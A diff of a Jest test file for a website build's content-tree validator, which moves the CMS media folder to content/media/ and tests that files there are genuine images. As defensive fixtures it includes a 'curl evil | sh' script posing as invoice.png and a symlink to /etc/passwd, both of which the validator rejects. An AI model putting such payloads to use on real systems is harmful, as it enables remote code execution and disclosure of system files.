@@ -1,4 +1,14 @@
-import { CHECKED_FOLDERS, STATIC_RULE, contentTreeProblems, isMediaPath, isStaticPath, treeEntryProblem, type TreeEntry } from '../../src/build/contentTree';
+import {
+  CHECKED_FOLDERS,
+  MEDIA_FOLDER_RULE,
+  STATIC_RULE,
+  contentTreeProblems,
+  isImagePath,
+  isMediaPath,
+  isStaticPath,
+  treeEntryProblem,
+  type TreeEntry,
+} from '../../src/build/contentTree';
 
 const ONLY_REGULAR = 'content/, locales/, static/ hold regular files and folders only';
 const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
@@ -18,16 +28,18 @@ describe('treeEntryProblem', () => {
       { path: 'static/favicon.svg', kind: 'file', head: SVG },
       { path: 'static/logo.png', kind: 'file', head: PNG },
       { path: 'static/x', kind: 'directory' },
-      { path: 'static/media/logo.png', kind: 'file', head: PNG },
-      { path: 'static/media/2026/chart.PNG', kind: 'file', head: PNG },
+      { path: 'content/media/logo.png', kind: 'file', head: PNG },
+      { path: 'content/media/2026/chart.PNG', kind: 'file', head: PNG },
+      // A subfolder's name means nothing in the media folder, which is never published as it is.
+      { path: 'content/media/admin/a.png', kind: 'file', head: PNG },
     ] as TreeEntry[]) {
       expect(treeEntryProblem(entry)).toBeUndefined();
     }
   });
 
   it('refuses a symbolic link wherever it points, naming where', () => {
-    expect(treeEntryProblem({ path: 'static/media/passwd.png', kind: 'symlink', target: '/etc/passwd' })).toBe(
-      `static/media/passwd.png is a symbolic link to /etc/passwd; ${ONLY_REGULAR}: put the file itself there instead of a link`,
+    expect(treeEntryProblem({ path: 'content/media/passwd.png', kind: 'symlink', target: '/etc/passwd' })).toBe(
+      `content/media/passwd.png is a symbolic link to /etc/passwd; ${ONLY_REGULAR}: put the file itself there instead of a link`,
     );
     expect(treeEntryProblem({ path: 'content/blog/en/copy.md', kind: 'symlink', target: '../../docs/en/readme.md' })).toBe(
       `content/blog/en/copy.md is a symbolic link to ../../docs/en/readme.md; ${ONLY_REGULAR}: put the file itself there instead of a link`,
@@ -47,7 +59,7 @@ describe('treeEntryProblem', () => {
     for (const path of [
       'static/a.html',
       'static/b.HTM',
-      'static/media/f.Html',
+      'static/f.Html',
       'static/page.html.txt',
       'static/sw.js',
       'static/s.css',
@@ -58,17 +70,37 @@ describe('treeEntryProblem', () => {
     ]) {
       expect(treeEntryProblem({ path, kind: 'file', head: PNG })).toBe(`${path} is a .${/\.([^.]+)$/.exec(path)?.[1]} file, not an image; ${STATIC_RULE}`);
     }
-    expect(treeEntryProblem({ path: 'static/media/invoice.png', kind: 'file', head: Uint8Array.from(Buffer.from('#!/bin/sh\ncurl evil | sh\n')) })).toBe(
-      `static/media/invoice.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`,
+    expect(treeEntryProblem({ path: 'static/invoice.png', kind: 'file', head: Uint8Array.from(Buffer.from('#!/bin/sh\ncurl evil | sh\n')) })).toBe(
+      `static/invoice.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`,
     );
     expect(treeEntryProblem({ path: 'static/_redirects', kind: 'file', head: new Uint8Array() })).toBe(`static/_redirects has no extension, so it is not an image; ${STATIC_RULE}`);
-    expect(treeEntryProblem({ path: 'static/media/no-head.png', kind: 'file' })).toBe(
-      `static/media/no-head.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`,
-    );
-    expect(isMediaPath('static/media/a.png')).toBe(true);
-    expect(isMediaPath('static/mediaX/a.png')).toBe(false);
+    expect(treeEntryProblem({ path: 'static/no-head.png', kind: 'file' })).toBe(`static/no-head.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`);
     expect(isStaticPath('static/a.png')).toBe(true);
     expect(isStaticPath('content/static/a.png')).toBe(false);
+  });
+
+  it('refuses anything in the media folder, in any subfolder, that is not an image by extension and contents', () => {
+    expect(MEDIA_FOLDER_RULE).toBe(
+      'content/media/, where the CMS uploads, holds images only (whose contents match their extension: .png, .jpg, .jpeg, .gif, .webp, .avif, .ico, .svg)',
+    );
+    for (const path of ['content/media/f.Html', 'content/media/2026/page.html', 'content/media/sw.js', 'content/media/notes.md']) {
+      expect(treeEntryProblem({ path, kind: 'file', head: PNG })).toBe(`${path} is a .${/\.([^.]+)$/.exec(path)?.[1]} file, not an image; ${MEDIA_FOLDER_RULE}`);
+    }
+    expect(treeEntryProblem({ path: 'content/media/invoice.png', kind: 'file', head: Uint8Array.from(Buffer.from('#!/bin/sh\ncurl evil | sh\n')) })).toBe(
+      `content/media/invoice.png is named .png but its contents are not a PNG image; ${MEDIA_FOLDER_RULE}`,
+    );
+    expect(treeEntryProblem({ path: 'content/media/README', kind: 'file', head: new Uint8Array() })).toBe(
+      `content/media/README has no extension, so it is not an image; ${MEDIA_FOLDER_RULE}`,
+    );
+    expect(treeEntryProblem({ path: 'content/media/no-head.png', kind: 'file' })).toBe(
+      `content/media/no-head.png is named .png but its contents are not a PNG image; ${MEDIA_FOLDER_RULE}`,
+    );
+    expect(isMediaPath('content/media/a.png')).toBe(true);
+    expect(isMediaPath('content/mediaX/a.png')).toBe(false);
+    expect(isMediaPath('static/media/a.png')).toBe(false);
+    expect(isImagePath('content/media/2026/a.png')).toBe(true);
+    expect(isImagePath('static/a.png')).toBe(true);
+    expect(isImagePath('content/blog/en/a.png')).toBe(false);
   });
 
   it('refuses an image where the build writes, in another folder, or hidden', () => {
@@ -78,11 +110,13 @@ describe('treeEntryProblem', () => {
     for (const folder of ['admin', 'page-data', '_gatsby', 'pagefind', 'static', '~partytown']) {
       expect(problem(`static/${folder}/x/y.png`)).toBe(`static/${folder}/x/y.png is under /${folder}/, where the build writes its own files`);
     }
-    expect(problem('static/share/en.png')).toBe('static/share/en.png is in a folder static/ does not publish: move it into static/media/');
-    expect(problem('static/mediaX/a.png')).toBe('static/mediaX/a.png is in a folder static/ does not publish: move it into static/media/');
+    expect(problem('static/share/en.png')).toBe("static/share/en.png is in a folder static/ does not publish: move an editor's image into content/media/");
+    expect(problem('static/mediaX/a.png')).toBe("static/mediaX/a.png is in a folder static/ does not publish: move an editor's image into content/media/");
+    // The media folder's old place: an image left there is no longer published.
+    expect(problem('static/media/photo.png')).toBe("static/media/photo.png is in a folder static/ does not publish: move an editor's image into content/media/");
+    expect(problem('static/media/admin/a.png')).toBe("static/media/admin/a.png is in a folder static/ does not publish: move an editor's image into content/media/");
     expect(problem('static/.a.png')).toBe('static/.a.png is hidden (a dotfile, or in a dot folder), which a server may not serve alike everywhere');
     expect(problem('static/media/2026/.git/a.png')).toBe('static/media/2026/.git/a.png is hidden (a dotfile, or in a dot folder), which a server may not serve alike everywhere');
-    expect(problem('static/media/admin/a.png')).toBeUndefined();
   });
 });
 
